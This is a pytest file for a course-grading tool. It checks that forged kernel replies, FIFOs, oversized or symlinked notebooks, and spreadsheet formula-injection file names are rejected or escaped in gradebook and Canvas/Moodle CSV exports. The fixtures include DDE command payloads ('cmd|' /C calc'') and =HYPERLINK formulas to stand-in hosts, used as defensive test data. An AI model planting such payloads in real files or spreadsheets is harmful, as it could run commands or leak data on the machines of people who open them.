"""What the kernel sends never reaches a text unchecked (red-team findings of issue 24):
forged names of guarded functions, a chosen time, invalid JSON, a FIFO or huge file among
the submissions."""

import os

import pytest

from kmlteach.course.grade.codec import ResultError, loads_limited
from kmlteach.course.grade.plan import chapter_plan
from kmlteach.course.grade.scoring import score_exercise
from kmlteach.course.grade.submission import MAX_NOTEBOOK_BYTES, read_regular


@pytest.fixture(scope="module")
def plan():
    return chapter_plan("01")


def _exercise(plan, ex_id="01.perceptron"):
    return next(e for e in plan.exercises if e.id == ex_id)


def test_forged_called_names_are_dropped_and_real_ones_kept(plan):
    ex = _exercise(plan)
    guards = tuple(plan.guards)
    assert guards, "chapter 01 guards its library functions"
    secret = "x_2_0000_1_0000 ## Grade: 13/13 [evil](https://example.invalid)"
    r = score_exercise(ex, {"cases": [], "called": [secret, "kmlteach.svm.x_2_0"], "elapsed": 0.5}, guards)
    assert r.verdict != "reference" and "x_2_0" not in r.message and "Grade" not in r.message
    real = guards[0]
    r = score_exercise(ex, {"cases": [], "called": [real], "elapsed": 0.5}, guards)
    assert r.verdict == "reference" and real in r.message


def test_the_time_shown_is_the_graders_not_the_kernels(plan):
    ex = _exercise(plan)
    reply = {"cases": [{"time": 2_000_000.0, "error": "NotImplementedError"}], "called": [], "elapsed": 0.25}
    r = score_exercise(ex, reply, tuple(plan.guards))
    assert r.time == 0.25


@pytest.mark.parametrize("text", ["{not json", "[" * 100_000, 42])
def test_an_unreadable_reply_raises_result_error_without_its_text(text):
    with pytest.raises(ResultError) as err:
        loads_limited(text)
    assert "not json" not in str(err.value) and len(str(err.value)) < 40


def test_only_regular_files_of_notebook_size_are_read(tmp_path):
    ok = tmp_path / "a.ipynb"
    ok.write_bytes(b"{}")
    assert read_regular(ok) == b"{}"
    fifo = tmp_path / "evil.ipynb"
    os.mkfifo(fifo)
    assert read_regular(fifo) is None  # returns at once: never blocks on the pipe
    big = tmp_path / "big.ipynb"
    with open(big, "wb") as fh:  # sparse: huge size, no data written
        fh.truncate(MAX_NOTEBOOK_BYTES + 1)
    assert read_regular(big) is None
    link = tmp_path / "link.ipynb"
    link.symlink_to(ok)
    assert read_regular(link) is None


def test_gradebook_cells_that_begin_like_a_formula_are_text():
    """Red team 3: a notebook named ``=HYPERLINK(...).ipynb`` (or ``+``, ``-``, ``@``, a tab,
    a CR; also a folder name) must not become a formula when the CSV is opened."""
    import csv
    import io

    from kmlteach.course.grade.gradebook import gradebook_csv
    from kmlteach.course.grade.scoring import SubmissionResult

    names = ['=HYPERLINK("http:evil","click")', "@SUM(1+1)", "+1+2", "-3+cmd|' -c calc'!A0", "\tx", "ok"]
    rows = list(
        csv.reader(io.StringIO(gradebook_csv([SubmissionResult(n, chapter="01") for n in names], [])))
    )[1:]
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert not [c for c in cells if "\t" in c or "\n" in c or "\r" in c], cells
    assert sorted(row[0] for row in rows) == sorted(
        ["'" + n for n in names[:4]] + [" x", "ok"]  # a tab is a space: no formula after it
    )


def test_out_and_feedback_must_be_outside_the_submissions_folder(tmp_path):
    """Red team 3: the resume state (OUT.state.json) decides what needs no grading; a file a
    student slipped into the submissions folder must never be read as it."""
    from kmlteach.course.grade.runner import GradeError, grade_folder

    subs = tmp_path / "subs"
    subs.mkdir()
    for kw in ({"out": subs / "gradebook.csv"}, {"out": tmp_path / "g.csv", "feedback": subs / "fb"}):
        out = kw.pop("out")
        with pytest.raises(GradeError, match="outside the submissions folder"):
            grade_folder(subs, out, progress=None, **kw)


# red team G2: file names that grade --lms decodes (user_of_key) into formulas, a tab, a
# newline, or another student's name
G2_NAMES = [
    "%3DHYPERLINK(%22http:%2F%2Fevil.example%2F%3Fq%3D%22%26A1,%22grade%22)",
    "%3Dcmd%7C' %2FC calc'!A0",
    "%09=cmd|' /C calc'!A0",
    "%2B1+cmd|' /C calc'!A0",
    "x%0A=cmd|' /C calc'!A0",
    "%40SUM(1+1)",
    "-2+3",
    "Alice",  # upper case: not a hub/Unix account name
]


def _safe_cells(text: str) -> list[str]:
    import csv
    import io

    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert not [c for c in cells if c.lstrip(" ")[:1] in ("=", "+", "@", "\t", "\r", "\n")], cells
    assert not [c for c in cells if c.startswith("-") and not c[1:].replace(".", "").isdigit()], cells
    assert not [c for c in cells if any(ch in c for ch in "\t\r\n")], cells
    return cells


def test_lms_files_refuse_names_that_are_no_account_and_never_merge_two_files():
    """Red team G2: every one of those names refuses the Canvas and Moodle files with one
    line naming the submission (never a raw formula); ``%72t2alice`` and ``rt2alice`` are two
    files of one user: refused, naming both (before, one row with the better grade); plausible
    names are written, and every cell (a --lms-map's too) goes through the guard."""
    from kmlteach.course.classroom.lms import lms_csv

    def row(sid, total="13"):
        return {"submission": sid, "chapter": "01", "total": total}

    for kind in ("canvas", "moodle"):
        for name in G2_NAMES:
            with pytest.raises(ValueError) as exc:
                lms_csv(kind, [row("ok_user"), row(name)], None)
            msg = str(exc.value)
            assert len(msg.splitlines()) == 1 and ascii(name) in msg and "not an account name" in msg, msg
        with pytest.raises(ValueError) as exc:
            lms_csv(kind, [row("rt2alice", "0"), row("%72t2alice")], None)
        msg = str(exc.value)
        assert "'rt2alice'" in msg and "'%72t2alice'" in msg and "both user 'rt2alice'" in msg, msg
        # one user's chapters in two folders are not a clash; plausible names pass
        rows = [
            row("01/bob.smith@uni.example"),
            row("x-1_y", "2"),
            {**row("02/bob.smith@uni.example"), "chapter": "02"},
        ]
        text, left = lms_csv(kind, rows, None)
        cells = _safe_cells(text)
        assert "bob.smith@uni.example" in cells and "x-1_y" in cells and left == []


def test_a_lms_map_s_formula_cells_are_guarded(tmp_path):
    from kmlteach.course.classroom.lms import lms_csv

    (tmp_path / "map.csv").write_text(
        'user,Student,SIS Login ID\nalice,"=HYPERLINK(""http://evil"",""x"")","@SUM(1)"\nbob,"-1+cmd","x\ny"\n'
    )
    rows = [{"submission": u, "chapter": "01", "total": "3"} for u in ("alice", "bob")]
    text, _ = lms_csv("canvas", rows, None, tmp_path / "map.csv")
    cells = _safe_cells(text)
    assert '\'=HYPERLINK("http://evil","x")' in cells and "'@SUM(1)" in cells and "'-1+cmd" in cells


def test_grade_lms_with_the_red_team_s_files(tmp_path):
    """End to end (``python -m kmlteach grade ... --lms canvas``): the gradebook keeps every
    row, guarded; the Canvas file is not written and ``grade`` says why in one line on stderr,
    naming the files, and exits 1; without the hostile files the file is written."""
    import csv
    import subprocess
    import sys

    from grade_submissions import ROOT, dump, load, student

    subs = tmp_path / "subs"
    subs.mkdir()
    empty, honest = dump(student(load())), dump(load())
    (subs / "rt2alice.ipynb").write_bytes(empty)
    (subs / "%72t2alice.ipynb").write_bytes(honest)
    (subs / "%3Dcmd%7C' %2FC calc'!A0.ipynb").write_bytes(empty)
    (subs / "x%0A=cmd.ipynb").write_bytes(empty)

    def grade(*extra):
        return subprocess.run(
            [sys.executable, "-m", "kmlteach", "grade", str(subs), "--out", str(tmp_path / "gb.csv")]
            + ["--lms", "canvas", str(tmp_path / "canvas.csv"), *extra],
            capture_output=True,
            text=True,
            cwd=ROOT,
            timeout=600,
        )

    r = grade()
    assert r.returncode == 1 and not (tmp_path / "canvas.csv").exists(), (r.stdout, r.stderr)
    (line,) = [ln for ln in r.stderr.splitlines() if ln.startswith("error:")]
    for sid in ("rt2alice", "%72t2alice", "%3Dcmd%7C' %2FC calc'!A0", "x%0A=cmd"):
        assert ascii(sid) in line, line
    text = (tmp_path / "gb.csv").read_text(encoding="utf-8")
    _safe_cells(text)
    rows = {r["submission"]: r["total"] for r in csv.DictReader(text.splitlines())}
    assert rows["rt2alice"] == "0" and rows["%72t2alice"] == "13" and len(rows) == 4, rows
    for name in ("%3Dcmd%7C' %2FC calc'!A0.ipynb", "x%0A=cmd.ipynb", "%72t2alice.ipynb"):
        (subs / name).unlink()
    r = grade()
    assert r.returncode == 0, (r.stdout, r.stderr)
    assert list(csv.reader((tmp_path / "canvas.csv").read_text().splitlines()))[1][:1] == ["rt2alice"]
